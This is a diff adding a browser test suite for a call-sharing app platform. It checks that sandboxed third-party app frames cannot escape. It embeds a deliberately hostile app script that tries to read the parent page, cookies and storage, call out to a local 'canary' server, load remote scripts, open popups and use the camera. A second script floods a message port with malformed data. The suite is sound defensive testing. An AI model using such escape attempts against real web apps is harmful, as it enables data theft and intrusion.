@@ -1,0 +1,185 @@
+"""A stranger's app: what it tries, and what it gets."""
+
+import asyncio
+import json
+from collections.abc import AsyncIterator, Iterator
+from typing import Any
+
+import pytest
+from playwright.async_api import Browser, expect
+
+import callmesh
+from tests.browser.people import person
+from tests.processes import HubProcess, hub_process
+
+pytestmark = [pytest.mark.anyio, pytest.mark.timeout(120)]
+
+EVIL = """<!doctype html><title>Evil</title><p id="out">working</p>
+<script type="module">
+const canary = decodeURIComponent("CANARY");
+const hub = new URL(import.meta.url).origin;
+const tries = {
+  parent: () => parent.document.title,
+  top: () => top.location.href,
+  cookie: () => document.cookie,
+  localStorage: () => localStorage.length,
+  indexedDB: () => new Promise((yes, no) => {
+    const open = indexedDB.open("x"); open.onsuccess = yes; open.onerror = no; }),
+  fetchOut: () => fetch(canary),
+  fetchHub: () => fetch(`${hub}/api/apps`),
+  fetchOther: () => fetch(`${hub}/sdk/app.js`),
+  socketOut: () => new Promise((yes, no) => {
+    const s = new WebSocket(canary.replace("http", "ws")); s.onopen = yes; s.onerror = no; }),
+  socketHub: () => new Promise((yes, no) => {
+    const s = new WebSocket(`${hub.replace("http", "ws")}/call/evil/socket`);
+    s.onopen = yes; s.onerror = no; }),
+  image: () => new Promise((yes, no) => {
+    const i = new Image(); i.onload = yes; i.onerror = no; i.src = `${canary}/i.png`; }),
+  script: () => import(`${canary}/x.js`),
+  popup: () => { if (!open(canary)) throw new Error("no window"); },
+  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
+};
+const found = { origin: self.origin };
+for (const [name, attempt] of Object.entries(tries)) {
+  const late = new Promise((_, no) => setTimeout(no, 3000, new Error("late")));
+  try { await Promise.race([attempt(), late]); found[name] = "WORKED"; }
+  catch { found[name] = "refused"; }
+}
+const form = document.createElement("form");
+form.action = canary; document.body.append(form);
+try { form.submit(); } catch {}
+const frame = document.createElement("iframe");
+frame.src = canary; document.body.append(frame);
+window.found = found;
+document.getElementById("out").textContent = "done";
+</script>"""
+
+# Asks for the port as the SDK does, then speaks rubbish over it.
+RUDE = """<!doctype html><title>Rude</title><p>rude</p><script>
+addEventListener("message", ({ data, ports: [port] }) => {
+  if (!port) return;
+  window.received = [];
+  port.onmessage = ({ data }) => window.received.push(data);
+  port.postMessage(new Uint8Array([0xde, 0xad, 0xbe, 0xef]));
+  port.postMessage("text"); port.postMessage({ a: 1 }); port.postMessage(new Uint8Array(3e6));
+});
+parent.postMessage({ callmesh: "hello" }, "*");
+parent.postMessage("hello", "*"); parent.postMessage({ callmesh: 5 }, "*");
+parent.postMessage(null, "*");
+</script>"""
+
+
+class Canary:
+    """Counts who calls home."""
+
+    def __init__(self) -> None:
+        self.hits: list[bytes] = []
+
+    async def take(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        self.hits.append(await reader.readline())
+        writer.close()
+
+
+@pytest.fixture(scope="module")
+async def canary(anyio_backend: str) -> AsyncIterator[tuple[Canary, str]]:
+    canary = Canary()
+    server = await asyncio.start_server(canary.take, "127.0.0.1", 0)
+    async with server:
+        yield canary, f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
+
+
+@pytest.fixture(scope="module")
+def hub(
+    tmp_path_factory: pytest.TempPathFactory, canary: tuple[Canary, str]
+) -> Iterator[HubProcess]:
+    folder = tmp_path_factory.mktemp("apps")
+    apps = []
+    for name, html in (("evil", EVIL.replace("CANARY", canary[1])), ("rude", RUDE)):
+        app = folder / name
+        app.mkdir()
+        manifest = {"id": name, "name": name.capitalize(), "version": "1"}
+        (app / "manifest.json").write_text(json.dumps(manifest))
+        (app / "index.html").write_text(html)
+        apps.append(app)
+    with hub_process(folder / "data", apps=tuple(apps)) as hub:
+        yield hub
+
+
+async def test_an_evil_app_gets_out_nowhere(
+    browser: Browser, hub: HubProcess, canary: tuple[Canary, str]
+) -> None:
+    """[A1]"""
+    async with person(browser, "Ada", permissions=["camera"]) as ada:
+        await ada.join(hub.call("evil"), role="host")
+        await ada.add("Evil")
+        await expect(ada.app("Evil").get_by_text("done")).to_be_visible(timeout=60_000)
+        found: dict[str, Any] = await ada.in_app("Evil", "window.found")
+        assert found.pop("origin") == "null"
+        assert {name for name, outcome in found.items() if outcome == "WORKED"} == set()
+        await ada.page.wait_for_timeout(500)
+        assert canary[0].hits == []
+        frame = ada.page.locator('iframe[title="Evil"]')
+        assert await frame.get_attribute("sandbox") == "allow-scripts"
+        assert await ada.in_call("call.link") == "joined"
+
+
+async def test_rubbish_on_the_port_ends_that_frame_alone(browser: Browser, hub: HubProcess) -> None:
+    """[A2, A5]"""
+    async with person(browser, "Ada") as ada, callmesh.join(hub.call("rude"), name="Pia") as pia:
+        await ada.join(hub.call("rude"), role="host")
+        await ada.add("Poll")
+        await ada.add("Rude")
+        await expect(ada.page.get_by_text("stopped").first).to_be_visible()
+        await ada.tab("Poll").click()
+        await ada.app("Poll").get_by_label("Yes").check()
+        await expect(ada.app("Poll").get_by_text("1 vote", exact=True)).to_be_visible()
+        await pia.until(lambda: len(pia.participants) == 2)
+        await pia.until(lambda: all(p.here for p in pia.participants.values()))
+        assert await ada.in_call("call.status") == "synced"
+
+
+async def test_a_port_is_given_to_the_frame_that_asks_and_to_nobody_else(
+    browser: Browser, hub: HubProcess
+) -> None:
+    """[A2] The page itself, or a frame it did not make, says hello in vain."""
+    async with person(browser, "Ada") as ada:
+        await ada.join(hub.call("forged"), role="host")
+        await ada.add("Poll")
+        await expect(ada.app("Poll").get_by_text("Do you agree?")).to_be_visible()
+        ports = await ada.page.evaluate(
+            """async () => {
+                let ports = 0;
+                addEventListener("message", event => { ports += event.ports.length; });
+                const other = document.createElement("iframe");
+                other.sandbox = "allow-scripts";
+                document.body.append(other);
+                window.postMessage({ callmesh: "hello" }, "*");
+                dispatchEvent(new MessageEvent("message", {
+                    data: { callmesh: "hello" }, source: other.contentWindow,
+                }));
+                await new Promise(done => setTimeout(done, 500));
+                return ports;
+            }"""
+        )
+        assert ports == 0
+
+
+async def test_a_frame_sees_its_own_resource_alone(browser: Browser, hub: HubProcess) -> None:
+    """[A2, A3, R1] Two polls: neither knows of the other, nor of the call's own State."""
+    async with person(browser, "Ada") as ada:
+        await ada.join(hub.call("own"), role="host")
+        await ada.add("Poll")
+        await ada.add("Poll")
+        await expect(ada.app("Poll 2").get_by_text("Do you agree?")).to_be_visible()
+        await ada.app("Poll 2").get_by_label("No").check()
+        await expect(ada.app("Poll 2").get_by_text("1 vote", exact=True)).to_be_visible()
+        await ada.tab("Poll").first.click()
+        await expect(ada.app("Poll").get_by_text("0 votes", exact=True)).to_be_visible()
+        keys = await ada.in_app(
+            "Poll",
+            """async () => {
+                const { connect } = await import("callmesh/app");
+                return (await connect()).state.keys().sort();
+            }""",
+        )
+        assert keys == ["options/1", "options/2", "question"]
